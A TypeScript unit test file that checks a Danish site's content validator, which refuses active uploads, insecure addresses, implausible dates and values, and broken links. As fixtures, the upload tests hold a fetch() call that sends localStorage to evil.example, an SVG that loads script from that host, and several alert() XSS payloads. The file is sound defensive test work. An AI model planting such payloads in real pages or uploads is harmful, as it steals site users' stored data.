/**
 * The content check's refusals of what an editor can upload or type that would run on the site or publish
 * something wrong: active files, plain-text http:// addresses, impossible dates, the future, values outside their
 * unit, long titles, invisible characters and links to a #fragment that does not exist. Each is tested on a small
 * content folder of its own, written here, so no test depends on the site's real content.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { allProblems, checkContentFiles } from '../../src/lib/content-check';
import { collectionPaths } from '../../src/lib/content/paths.mjs';
import { calendarDateProblem, titleLengthProblem, unitRangeProblem } from '../../src/lib/content-check/plausible';
import { svgProblem, uploadProblem } from '../../src/lib/content-check/uploads';
import { formatProblem } from '../../src/lib/errors';

const TODAY = '2026-12-01';

/** A content folder with every list empty and no files, plus `files` (paths from the folder's parent). */
function check(name: string, files: Record<string, string | Uint8Array>, today = TODAY): string[] {
  const base = join('.tmp', 'unit-safety', name);
  rmSync(base, { recursive: true, force: true });
  for (const place of Object.values(collectionPaths)) {
    if ('file' in place) {
      mkdirSync(dirname(join(base, 'content', place.file)), { recursive: true });
      writeFileSync(join(base, 'content', place.file), '[]\n');
    } else mkdirSync(join(base, 'content', place.folder), { recursive: true });
  }
  mkdirSync(join(base, 'public'), { recursive: true });
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(base, path)), { recursive: true });
    writeFileSync(join(base, path), content);
  }
  const result = checkContentFiles({
    root: process.cwd(),
    contentDir: `${base}/content`,
    publicDir: `${base}/public`,
    today,
  });
  // The folder is too small for a strategy (no tracks, targets …): its cross-references are tested elsewhere.
  const problems = allProblems(result).filter((p) => !result.referenceProblems.includes(p));
  return problems.map((p) => formatProblem(p).split(`${base}/`).join(''));
}

/** A case file that the check accepts, with `fields` added or replaced and `body` as its text. */
function caseFile(fields: Record<string, string> = {}, body = 'Kantinen serverer mere grønt.'): string {
  const all: Record<string, string> = {
    titel: 'Grøn kantine',
    resume: 'Kantinen serverer mere grønt.',
    spor: '[ansvarligt-forbrug]',
    kilder: '\n  - navn: Region Midtjylland\n    url: https://www.rm.dk/',
    aar: '2024',
    beskrivelse: 'En kantine, der serverer mere grønt og smider mindre mad ud, i en af regionens enheder.',
    ...fields,
  };
  const lines = Object.entries(all)
    .filter(([, v]) => v !== '')
    .map(([k, v]) => `${k}: ${v}`);
  return `---\n${lines.join('\n')}\n---\n\n${body}\n`;
}

/** The indicators file with one indicator in `unit` and the given measurements. */
function indicators(unit: string, measurements: { aar: number; vaerdi: number }[]): string {
  return JSON.stringify(
    [
      {
        id: 'genbrug',
        titel: 'Genbrug',
        maal: ['genbrug'],
        enhed: unit,
        maalinger: measurements.map((m) => ({ ...m, kilde: 'https://www.rm.dk/' })),
      },
    ],
    null,
    2,
  );
}

const PDF = new TextEncoder().encode('%PDF-1.7\n%âãÏÓ\n');

test('a content folder of only valid files passes these rules', () => {
  expect(
    check('valid', {
      'content/cases/groen-kantine.mdx': caseFile(
        { udgivet: '2026-02-28', aar: '' },
        'Se https://www.rm.dk/ og [afsnittet](#resultater).\n\n## Resultater\n\nMindre madspild.',
      ),
      'content/data/indikatorer.json': indicators('%', [
        { aar: 2017, vaerdi: 0 },
        { aar: 2026, vaerdi: 100 },
      ]),
      'public/materialer/plakat.pdf': PDF,
      'public/materialer/figur.svg': '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
      'public/materialer/tal.csv': 'aar,vaerdi\n2024,12\n',
    }),
  ).toEqual([]);
});

describe('nothing uploaded can run on the site', () => {
  test('HTML, JavaScript and a scripted SVG in public/ or among the photos are refused, naming the file', () => {
    const problems = check('uploads', {
      'public/materialer/side.html': '<script>alert(localStorage)</script>',
      'public/materialer/kode.js': 'fetch("https://evil.example/?" + localStorage.cms)',
      'public/materialer/figur.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script href="https://evil.example/x.js"/></svg>',
      'public/materialer/rapport.pdf': '<html><script>alert(1)</script></html>',
      'content/billeder/foto.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    });
    expect(problems).toEqual([
      'content/billeder/foto.svg: har filtypen .svg, som ikke kan bruges til et foto. Gem billedet som JPEG, PNG eller WebP, og upload det igen.',
      expect.stringMatching(
        /^public\/materialer\/figur\.svg: er en SVG med et <script>-element\. Sådan en fil kan køre kode på sitet\. Gem tegningen som PNG eller PDF/,
      ),
      expect.stringMatching(
        /^public\/materialer\/kode\.js: har filtypen \.js, som en browser kan køre som kode på sitet\. Tilladte filtyper er PDF, Word \(\.docx\)/,
      ),
      expect.stringMatching(
        /^public\/materialer\/rapport\.pdf: ender på \.pdf, men er ikke en PDF-fil \(den er måske en omdøbt webside/,
      ),
      expect.stringMatching(
        /^public\/materialer\/side\.html: har filtypen \.html, som en browser kan køre som kode på sitet\./,
      ),
    ]);
  });

  test('an SVG is active when it has a script, an event attribute, a javascript: link or an outside reference', () => {
    expect(svgProblem('<svg><script>alert(1)</script></svg>')).toMatch(/<script>/);
    expect(svgProblem('<svg onload="x()"/>')).toMatch(/on…-egenskab/);
    expect(svgProblem('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>')).toMatch(/javascript:/);
    expect(svgProblem('<svg><use xlink:href="https://evil.example/a.svg#x"/></svg>')).toMatch(/link til en anden fil/);
    expect(svgProblem('<svg><foreignObject><div>x</div></foreignObject></svg>')).toMatch(/foreignObject/);
    expect(svgProblem('<svg xmlns="http://www.w3.org/2000/svg"><use href="#a"/></svg>')).toBeUndefined();
  });

  test('the allowed types pass when their content is what their name says', () => {
    expect(uploadProblem('a.pdf', PDF)).toBeUndefined();
    expect(uploadProblem('a.xlsx', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0]))).toBeUndefined();
    expect(uploadProblem('a.png', new Uint8Array([0x89, 0x50, 0x4e, 0x47]))).toBeUndefined();
    expect(uploadProblem('a.png', new TextEncoder().encode('<html>'))).toMatch(/er ikke en PNG-fil/);
    expect(uploadProblem('a.csv', new TextEncoder().encode('<html><script>'))).toMatch(/indeholder HTML eller XML/);
    expect(uploadProblem('a.exe', PDF)).toMatch(/har filtypen \.exe, som ikke kan lægges ud på sitet/);
    expect(uploadProblem('.htaccess', PDF)).toMatch(/har filtypen \(ingen\)/);
  });
});

describe('an address typed as text follows the same rules as a link', () => {
  test('plain-text http:// and www. addresses (GFM autolinks) are refused with line and column', () => {
    const problems = check('autolinks', {
      'content/cases/groen-kantine.mdx': caseFile(
        {},
        'Læs mere på http://www.rm.dk/groen.\n\nEller på www.rm.dk i dag.',
      ),
      'content/spor/energi.md': '---\n---\n\nSe http://energi.dk/ nu.\n',
    });
    expect(problems).toContainEqual(
      'content/cases/groen-kantine.mdx, linje 12, kolonne 13: har adressen http://www.rm.dk/groen skrevet som tekst, som bliver et usikkert link (http://). Skriv adressen med https:// foran, fx https://www.rm.dk/groen.',
    );
    expect(problems).toContainEqual(
      'content/cases/groen-kantine.mdx, linje 14, kolonne 10: har adressen www.rm.dk skrevet som tekst, som bliver et usikkert link (http://). Skriv adressen med https:// foran, fx https://www.rm.dk.',
    );
    expect(problems).toContainEqual(
      expect.stringMatching(/^content\/spor\/energi\.md, linje 4, kolonne 4: har adressen http:\/\/energi\.dk\//),
    );
  });
});

describe('plausible values', () => {
  test('an impossible date, a case dated next year or after today, and a measurement ten years ahead', () => {
    const problems = check('dates', {
      'content/cases/groen-kantine.mdx': caseFile({ udgivet: '2026-02-30', aar: '' }),
      'content/cases/naeste-aar.mdx': caseFile({ titel: 'Næste år', aar: '2027' }),
      'content/cases/i-morgen.mdx': caseFile({ titel: 'I morgen', aar: '', udgivet: '2026-12-02' }),
      'content/data/indikatorer.json': indicators('t CO2e', [
        { aar: 2024, vaerdi: 500000 },
        { aar: 2036, vaerdi: 400000 },
      ]),
    });
    expect(problems).toEqual([
      'content/cases/groen-kantine.mdx, linje 9, kolonne 10: feltet "udgivet" er "2026-02-30", som ikke er en dato: februar 2026 har 28 dage. Skriv en dag, der findes, som år-måned-dag, fx 2026-02-28.',
      'content/cases/i-morgen.mdx, linje 9, kolonne 10: feltet "udgivet" er 2026-12-02, som ligger efter i dag (2026-12-01). En case kan ikke være udgivet i fremtiden: den ville stå øverst i listen og i RSS-feedet. Skriv dagen, casen kom på sitet, eller vent med at lægge den på til den dag.',
      expect.stringMatching(
        /^content\/cases\/naeste-aar\.mdx, linje 8, kolonne 6: feltet "aar" er 2027, et år der ikke er kommet endnu\./,
      ),
      expect.stringMatching(
        /^content\/data\/indikatorer\.json, linje \d+, kolonne \d+ \(id "genbrug"\): feltet "maalinger\[nr\. 2, år 2036\]\.aar" er 2036, et år der ikke er kommet endnu: en måling kan kun gælde et år, der er gået, eller i år \(2026\)\./,
      ),
    ]);
  });

  test('a share below 0 or above 100 %, and negative tonnes', () => {
    expect(check('share', { 'content/data/indikatorer.json': indicators('%', [{ aar: 2024, vaerdi: -3 }]) })).toEqual([
      expect.stringMatching(
        /^content\/data\/indikatorer\.json, linje \d+, kolonne \d+ \(id "genbrug"\): feltet "maalinger\[nr\. 1, år 2024\]\.vaerdi" er -3, men enheden er "%", en andel, som ligger mellem 0 og 100\./,
      ),
    ]);
    expect(unitRangeProblem('%', 100.5)).toMatch(/er 100,5, men enheden er "%"/);
    expect(unitRangeProblem('t CO2e', -1)).toMatch(/en udledning i tons kan ikke være negativ/);
    expect(unitRangeProblem('% ift. basisår', -68)).toBeUndefined();
    expect(unitRangeProblem('% ift. basisår', 12)).toBeUndefined();
    expect(unitRangeProblem('kWh', 0)).toBeUndefined();
  });

  test('a zero-width space inside a title, a soft hyphen in a body, and a 30-word title', () => {
    const long = Array.from({ length: 30 }, (_, i) => `ord${i + 1}`).join(' ');
    const problems = check('text', {
      'content/cases/groen-kantine.mdx': caseFile({ titel: 'Grøn kan\u200btine' }, 'Bære\u00addygtighed i hverdagen.'),
      'content/cases/lang.mdx': caseFile({ titel: long }),
    });
    expect(problems).toEqual([
      'content/cases/groen-kantine.mdx, linje 2, kolonne 8: feltet "titel" har et usynligt tegn (nul-bredde-mellemrum, U+200B) efter "Grøn kan", fx fra tekst kopieret fra Word eller en hjemmeside. Slet ordet med tegnet, og skriv det igen.',
      expect.stringMatching(
        /^content\/cases\/groen-kantine\.mdx, linje 12, kolonne 5: har i teksten et usynligt tegn \(blød bindestreg, U\+00AD\) efter "Bære".* Sitet deler selv lange ord/,
      ),
      `content/cases/lang.mdx, linje 2, kolonne 8: feltet "titel" er 30 ord og ${[...long].length} tegn. En titel skal kunne stå som overskrift på en telefon: højst 12 ord og 80 tegn. Skriv en kortere titel, og læg resten i teksten eller resuméet. Skal titlen virkelig være så lang, så skriv langTitel: true under titlen (i editoren: slå "Lang titel" til).`,
    ]);
  });

  test('a long title an editor has confirmed with langTitel: true is accepted, and only that title', () => {
    const long = Array.from({ length: 30 }, (_, i) => `ord${i + 1}`).join(' ');
    const problems = check('long-title', {
      'content/cases/bekraeftet.mdx': caseFile({ titel: long, langTitel: 'true' }),
      'content/cases/ikke-bekraeftet.mdx': caseFile({ titel: `${long} igen` }),
      'content/materialer/lang.json': JSON.stringify({
        titel: 'x'.repeat(81),
        beskrivelse: 'Et materiale med en lang titel.',
        type: 'data',
        fil: '/materialer/tal.csv',
      }),
      'public/materialer/tal.csv': 'aar,vaerdi\n2024,12\n',
    });
    expect(problems).toHaveLength(2);
    expect(problems[0]).toMatch(
      /^content\/cases\/ikke-bekraeftet\.mdx, linje 2, kolonne 8: feltet "titel" er 31 ord .* så skriv langTitel: true under titlen/,
    );
    // In a JSON file the confirmation is written as JSON.
    expect(problems[1]).toMatch(
      /^content\/materialer\/lang\.json.*feltet "titel" er 1 ord og 81 tegn.* så skriv "langTitel": true under titlen/,
    );
  });

  test('the rules on their own: real dates, title lengths', () => {
    expect(calendarDateProblem('2024-02-29')).toBeUndefined();
    expect(calendarDateProblem('2026-11-31')).toMatch(/november 2026 har 30 dage/);
    expect(calendarDateProblem('2026-13-01')).toMatch(/der er ingen måned 13/);
    expect(calendarDateProblem('2026-1-1')).toBeUndefined(); // not of the form: the schema's own message
    expect(titleLengthProblem('Energirenovering med ESCO i Hospitalsenhed Midt')).toBeUndefined();
    expect(titleLengthProblem('x'.repeat(81))).toMatch(/er 1 ord og 81 tegn.*skriv langTitel: true under titlen/);
    expect(titleLengthProblem('x'.repeat(81), true)).toMatch(/skriv "langTitel": true under titlen/);
  });
});

describe('links to a place on a page', () => {
  test('a #fragment that no page has is refused; a heading of the page and a template id are not', () => {
    const problems = check('fragments', {
      'content/cases/groen-kantine.mdx': caseFile(
        {},
        '## Resultater\n\nSe [resultaterne](#resultater), [forsiden](/#findes-ikke), [siden](#metode) og [indholdet](/cases/groen-kantine/#indhold).',
      ),
    });
    expect(problems).toEqual([
      'content/cases/groen-kantine.mdx, linje 14, kolonne 33: har et link til /#findes-ikke, men / har intet afsnit med id\'et "findes-ikke". Slet #findes-ikke, eller link til en overskrift, der findes (id\'et er overskriften med små bogstaver og bindestreger).',
      'content/cases/groen-kantine.mdx, linje 14, kolonne 60: har et link til #metode, men siden har intet afsnit med id\'et "metode". Afsnittene i teksten har id\'erne #resultater: brug et af dem, eller slet #metode.',
    ]);
  });
});
